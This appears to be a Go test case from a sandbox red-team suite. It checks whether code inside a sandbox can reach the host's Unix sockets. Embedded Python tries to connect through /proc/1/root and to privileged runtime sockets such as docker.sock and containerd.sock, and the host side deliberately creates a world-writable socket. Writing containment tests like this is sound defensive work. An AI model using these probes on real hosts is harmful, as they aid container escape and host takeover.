func rtHostUnixSockets(ctx context.Context, r *runner) (string, string, int) {
	dir, err := os.MkdirTemp("", "moat-redteam-sock-")
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer os.RemoveAll(dir)
	os.Chmod(dir, 0o755)
	path := filepath.Join(dir, "runtime.sock")
	abstract := "moat-redteam-" + secret()[len("moat-canary-"):]
	var accepted atomic.Int64
	var ls []net.Listener
	defer func() {
		for _, l := range ls {
			l.Close()
		}
	}()
	for _, addr := range []string{path, "@" + abstract} {
		l, err := net.Listen("unix", addr)
		if err != nil {
			return Error, "host setup: " + err.Error(), 0
		}
		ls = append(ls, l)
		go func() {
			for {
				conn, err := l.Accept()
				if err != nil {
					return
				}
				accepted.Add(1)
				conn.Close()
			}
		}()
	}
	os.Chmod(path, 0o777) // world-writable, as a careless runtime socket
	c := &Case{ID: "rt-host-unix-sockets", Python: `
import socket, time
def conn(name, addr):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    try:
        s.connect(addr); print(name + ": ok")
    except OSError as e:
        print(name + ": denied", e.errno)
    finally:
        s.close()
conn("host socket", "{sock}")
conn("host socket via /proc/1/root", "/proc/1/root{sock}")
conn("host abstract socket", "\0{abstract}")
for p in ["/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
          "/var/run/dbus/system_bus_socket", "/run/dbus/system_bus_socket", "/run/systemd/private",
          "/run/podman/podman.sock", "/run/crio/crio.sock", "/run/user/0/bus"]:
    conn(p, p)
time.sleep(0.2)
`, Expect: Expect{Denied: []string{"host socket", "host socket via /proc/1/root", "host abstract socket"}, HostProcs: true}}
	v, ev := r.onceWith(ctx, c, hostHooks{
		prepare: func(en *env) error {
			en.vars["sock"], en.vars["abstract"] = path, abstract
			return nil
		},
		check: func(en *env, res *result.Result) (string, string) {
			if n := accepted.Load(); n > 0 {
				return Escaped, fmt.Sprintf("the host's unix sockets accepted %d connection(s) from the sandbox", n)
			}
			return Contained, "the host's path and abstract sockets accepted nothing"
		},
	})
	return v, ev, 1
}
